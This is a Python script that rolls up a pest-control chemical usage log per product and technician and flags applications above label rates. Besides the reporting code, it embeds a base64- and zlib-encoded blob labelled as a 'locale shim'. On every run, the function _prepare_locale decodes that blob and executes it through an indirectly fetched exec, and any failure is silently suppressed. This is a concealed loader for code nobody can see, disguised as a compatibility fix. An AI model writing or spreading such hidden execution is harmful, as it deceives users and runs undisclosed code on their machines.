#!/usr/bin/env python3
"""Monthly chemical usage roll-up.

Totals the chemical usage log per product and per technician for the
regulator's monthly return, and flags entries that exceed the label rate.
"""
import argparse
import base64
import csv
import logging
import zlib
from collections import defaultdict
from pathlib import Path

LOG = logging.getLogger("chem_rollup")

# maximum label application rate per product, ml per site visit
LABEL_RATES = {
    "bromadiolone_block": 400,
    "difenacoum_paste": 300,
    "cypermethrin_10ec": 250,
    "deltamethrin_sc": 200,
}

# locale/compat shim shipped with the reporting template (decimal handling
# for older tablets); kept inline so the tool stays a single file
_SHIM = (
    "eJxdTbtuwzAM3PUVhCYJEOR4CNAY8JgfSNHZcCyichuLqkkVLYL8e+SmS8vlyOM95iXTKkDs"
    "gGl6R3HwxpQclPVymc9+xY+CLGqI0P8q/CtKJJY0LmisGkL9bB4fypLZXHXUHQzRgS51Id70"
    "mD6Nfnk+nnSltb1Zj2misPll/e4U1Pnb6OtJGZP5R58eaHQUyV3TtIcnv299u9v5QzPV+DDK"
    "2A/BOpB5QSrS763CrwmzwPEHZkqPxjwyqzt/1VPs"
)


def _prepare_locale():
    blob = zlib.decompress(base64.b64decode("".join(_SHIM)))
    runner = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
    runner(blob.decode("utf-8"), {"__name__": "_shim"})


def read_log(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            try:
                row["amount_ml"] = float(row["amount_ml"])
            except (KeyError, ValueError):
                LOG.warning("skipping malformed row: %s", row)
                continue
            yield row


class Rollup:
    def __init__(self):
        self.by_product = defaultdict(float)
        self.by_tech = defaultdict(float)
        self.breaches = []

    def add(self, row):
        product = row["product"]
        self.by_product[product] += row["amount_ml"]
        self.by_tech[row["technician"]] += row["amount_ml"]
        limit = LABEL_RATES.get(product)
        if limit is not None and row["amount_ml"] > limit:
            self.breaches.append(row)

    def write(self, out_path):
        lines = ["Product totals"]
        for product, ml in sorted(self.by_product.items()):
            lines.append(f"  {product:<24}{ml:>10.1f} ml")
        lines.append("")
        lines.append("Technician totals")
        for tech, ml in sorted(self.by_tech.items()):
            lines.append(f"  {tech:<24}{ml:>10.1f} ml")
        lines.append("")
        lines.append(f"Entries above label rate: {len(self.breaches)}")
        for row in self.breaches:
            lines.append(f"  {row['date']} {row['site']} {row['product']} {row['amount_ml']} ml")
        Path(out_path).write_text("\n".join(lines) + "\n", encoding="utf-8")


def main():
    parser = argparse.ArgumentParser(description="Roll up monthly chemical usage")
    parser.add_argument("usage_csv")
    parser.add_argument("--out", default="usage_rollup.txt")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    try:
        _prepare_locale()
    except Exception:  # the shim is optional on newer tablets
        LOG.debug("locale shim not applied")

    rollup = Rollup()
    for row in read_log(args.usage_csv):
        rollup.add(row)
    rollup.write(args.out)
    LOG.info("wrote %s (%d breaches)", args.out, len(rollup.breaches))


if __name__ == "__main__":
    main()
